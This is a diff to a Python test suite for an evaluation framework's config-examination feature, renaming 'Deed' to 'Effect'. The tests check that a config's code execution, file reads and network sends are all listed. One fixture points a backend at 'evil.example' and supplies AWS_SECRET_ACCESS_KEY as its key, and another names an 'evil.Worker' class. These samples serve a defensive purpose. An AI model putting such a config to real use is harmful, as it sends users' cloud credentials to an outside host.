@@ -14,7 +14,7 @@ import yaml
 
 from gage_eval import registry
 from gage_eval.backends.build import config_model
-from gage_eval.config.consent import Deed, Examined, examine
+from gage_eval.config.consent import Effect, Examined, examine
 from gage_eval.errors import ConfigError
 
 Small = Callable[..., str]
@@ -44,11 +44,11 @@ def examined(text: str, folder: Path, **env: str) -> Examined:
     return examine(text, "theirs.yaml", folder, env=env)
 
 
-def deeds(text: str, folder: Path, **env: str) -> list[Deed]:
-    return [*examined(text, folder, **env).deeds]
+def effects(text: str, folder: Path, **env: str) -> list[Effect]:
+    return [*examined(text, folder, **env).effects]
 
 
-def told(found: list[Deed]) -> list[tuple[str, str, str]]:
+def told(found: list[Effect]) -> list[tuple[str, str, str]]:
     return [(one.act, one.what, one.path) for one in found]
 
 
@@ -130,7 +130,7 @@ def test_an_installed_plugin_is_listed_with_its_distribution_and_not_imported(
     text = small(backends=[{"backend_id": "m", "type": "acme"}], metrics=[{"type": "acme", "name": "x"}])
     found = examined(text, tmp_path)
     assert found.problems == ()
-    assert told([*found.deeds])[:2] == [
+    assert told([*found.effects])[:2] == [
         ("run", "no_such_module_of_acme:backends", "backends[0].type"),
         ("run", "no_such_module_of_acme:metrics", "metrics[0].implementation"),
     ]
@@ -146,7 +146,7 @@ def test_code_that_was_imported_before_is_not_called_either(
     monkeypatch.setitem(registry.backends._plugins, "earlier", known)
     found = examined(small(backends=[{"backend_id": "m", "type": "earlier"}]), tmp_path)
     assert found.problems == ()
-    assert told([*found.deeds])[0] == ("run", "acme==1", "backends[0].type")
+    assert told([*found.effects])[0] == ("run", "acme==1", "backends[0].type")
 
 
 def test_the_folder_of_the_config_is_not_put_on_the_path(tmp_path: Path, small: Small) -> None:
@@ -158,7 +158,7 @@ def test_the_folder_of_the_config_is_not_put_on_the_path(tmp_path: Path, small: 
 def test_an_endpoint_is_listed_with_the_variables_that_go_there(tmp_path: Path, small: Small) -> None:
     config = {"base_url": "https://evil.example/${USER}/v1", "model": "m", "api_key": "env:AWS_SECRET_ACCESS_KEY"}
     text = small(backends=[{"backend_id": "m", "type": "openai_http", "config": config}])
-    (sent,) = [one for one in deeds(text, tmp_path, USER="me") if one.act == "send"]
+    (sent,) = [one for one in effects(text, tmp_path, USER="me") if one.act == "send"]
     assert (sent.what, sent.path) == ("https://evil.example/me/v1", "backends[0].config.base_url")
     assert sent.note == "questions, media and the value of AWS_SECRET_ACCESS_KEY, USER"
     assert examined(text, tmp_path, USER="me").variables == {"backends[0].config.base_url": ["USER"]}
@@ -172,7 +172,7 @@ def test_data_are_listed_with_their_absolute_places_and_where_links_lead(tmp_pat
         {"dataset_id": "c", "params": {"path": "s3://theirs/rows.jsonl"}},
         {"dataset_id": "d", "hub": "theirs/rows"},
     ]
-    found = [one for one in deeds(small(datasets=datasets, backends=[_DUMMY]), tmp_path) if one.act != "send"]
+    found = [one for one in effects(small(datasets=datasets, backends=[_DUMMY]), tmp_path) if one.act != "send"]
     assert {(one.act, one.what) for one in found} == {
         ("read", str(tmp_path.parent / "up" / "*.jsonl")),
         ("read", str(Path.home() / "labels")),
@@ -190,7 +190,7 @@ def test_a_scoring_profiles_code_is_listed(tmp_path: Path, small: Small) -> None
     profile = {"scorers": {"short_text": {"primary_metric": "score", "metrics": [rule]}}}
     (tmp_path / "p.yaml").write_text(yaml.safe_dump(profile))
     task = {"task_id": "t", "dataset_id": "mine", "answer_type": "short_text", "scoring_profile": "p.yaml"}
-    found = told(deeds(small(backends=[_DUMMY], tasks=[task], metrics=None), tmp_path))
+    found = told(effects(small(backends=[_DUMMY], tasks=[task], metrics=None), tmp_path))
     for what in (("run", "theirs.mod:score"), ("run", "theirs.mod:cut"), ("read", str(tmp_path / "p.yaml"))):
         assert (*what, "tasks[0].scoring_profile") in found
 
@@ -227,14 +227,14 @@ def test_no_field_of_a_backend_that_reaches_out_is_left_out(
     text = small(backends=[{"backend_id": "m", "type": backend, "config": {**needed, name: canary}}])
     found = examined(text, tmp_path)
     assert found.problems == ()
-    said = [f"{one.what} {one.note}" for one in found.deeds if one.path.startswith("backends[0]")]
+    said = [f"{one.what} {one.note}" for one in found.effects if one.path.startswith("backends[0]")]
     wanted = "code that comes with a/b" if name == "trust_remote_code" else "canary"
     assert any(wanted in line for line in said), said
 
 
 def test_arguments_that_are_passed_on_to_an_engine_are_listed(tmp_path: Path, small: Small) -> None:
     config = {"model_path": "a/b", "worker_cls": "evil.Worker", "python": "./python"}
-    found = deeds(small(backends=[{"backend_id": "m", "type": "vllm_native", "config": config}]), tmp_path)
+    found = effects(small(backends=[{"backend_id": "m", "type": "vllm_native", "config": config}]), tmp_path)
     (start,) = [one for one in found if one.act == "start"]
     assert start.what == str(tmp_path / "python")
     assert "worker_cls=evil.Worker" in start.note
